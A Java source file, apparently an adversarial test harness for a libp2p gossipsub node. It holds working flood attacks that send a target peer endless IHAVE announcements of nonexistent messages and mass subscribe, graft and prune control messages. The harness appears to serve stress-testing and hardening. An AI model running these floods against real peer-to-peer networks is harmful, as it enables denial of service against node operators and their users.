package org.poai.hostile;

import java.util.List;
import java.util.SplittableRandom;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.poai.libp2p.gossipsub.Gossipsub;
import org.poai.libp2p.gossipsub.rpc.MessageId;
import org.poai.libp2p.gossipsub.rpc.Rpc;
import org.poai.libp2p.gossipsub.rpc.Rpc.Ihave;
import org.poai.libp2p.gossipsub.rpc.Rpc.Prune;
import org.poai.libp2p.gossipsub.rpc.Rpc.Subscription;
import org.poai.libp2p.gossipsub.rpc.RpcCodec;
import org.poai.libp2p.gossipsub.rpc.RpcLimits;

/** Floods of what gossipsub's control messages can say. */
public final class GossipAttacks {
  private static final int IDS = 4_000;
  private static final int NAMES = 1_000;

  private GossipAttacks() {}

  /** Announces messages that nobody has, and wants them too. */
  public static void announce(Target target, Siege siege) throws Exception {
    SplittableRandom random = new SplittableRandom();
    flood(
        target,
        siege,
        topic -> {
          List<MessageId> ids = ids(random);
          return Rpc.gossip(List.of(new Ihave(topic, ids)), ids);
        });
  }

  /** Joins and leaves thousands of topics, and grafts and prunes all of them. */
  public static void graft(Target target, Siege siege) throws Exception {
    SplittableRandom random = new SplittableRandom();
    flood(
        target,
        siege,
        topic -> {
          List<String> names =
              Stream.concat(
                      IntStream.range(0, NAMES).mapToObj(i -> "/" + random.nextLong()),
                      Stream.of(topic))
                  .toList();
          return Rpc.control(
              names.stream().map(name -> new Subscription(name, random.nextInt(4) > 0)).toList(),
              names,
              names.stream().map(name -> new Prune(name, random.nextLong())).toList());
        });
  }

  private interface Sentence {
    Rpc on(String topic);
  }

  private static List<MessageId> ids(SplittableRandom random) {
    return IntStream.range(0, IDS)
        .mapToObj(
            i -> {
              byte[] id = new byte[20];
              random.nextBytes(id);
              return MessageId.of(id);
            })
        .toList();
  }

  private static void flood(Target target, Siege siege, Sentence sentence) throws Exception {
    RpcCodec codec = new RpcCodec(RpcLimits.DEFAULT);
    try (Stranger stranger = Stranger.humble(target)) {
      var stream = stranger.open(Gossipsub.PROTOCOL, new Readers());
      while (stranger.isConnected() && !siege.isOverIn(50)) {
        codec.encode(sentence.on(stranger.protocols.blocksTopic())).forEach(stream::write);
      }
    }
  }
}
